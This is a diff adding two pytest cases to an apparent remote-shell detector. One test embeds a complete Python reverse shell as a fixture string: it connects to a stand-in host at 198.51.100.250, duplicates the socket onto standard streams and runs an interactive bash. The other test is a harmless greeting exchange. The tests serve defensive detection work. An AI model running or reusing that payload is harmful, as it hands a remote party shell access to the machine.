@@ -47,3 +47,35 @@ def test_a_connection_that_only_exchanges_data_is_no_remote_shell(tmp_path: Path
     )
     found = analyse_file(tmp_path, "scripts/ping.py", source, Language.PYTHON)
     assert not [c for c in found if c.detail.endswith("(remote shell)")]
+
+
+def test_a_connection_handed_to_a_helper_that_puts_it_in_place_of_stdio_is_a_remote_shell(tmp_path: Path) -> None:
+    source = (
+        "import os, socket, subprocess\n"
+        "def bridge(conn):\n"
+        "    for n in range(3):\n"
+        "        os.dup2(conn.fileno(), n)\n"
+        "    subprocess.call(['/bin/bash', '-i'])\n"
+        "def run():\n"
+        "    peer = socket.socket()\n"
+        "    peer.connect(('198.51.100.250', 7000))\n"
+        "    if os.fork() == 0:\n"
+        "        bridge(peer)\n"
+        "run()\n"
+    )
+    errors = scan_errors(tmp_path, {"tools/bridge.py": source})
+    assert [e for e in errors if e[0] == "REMOTE_SHELL" and e[1] == "tools/bridge.py"]
+
+
+def test_a_connection_handed_to_a_helper_that_only_sends_a_greeting_is_no_error(tmp_path: Path) -> None:
+    source = (
+        "import socket\n"
+        "def greet(conn, name):\n"
+        "    conn.sendall(b'HELO ' + name.encode())\n"
+        "    return conn.recv(64)\n"
+        "def run():\n"
+        "    peer = socket.create_connection(('198.51.100.250', 25))\n"
+        "    print(greet(peer, 'build-host'))\n"
+        "run()\n"
+    )
+    assert scan_errors(tmp_path, {"tools/probe.py": source}) == set()
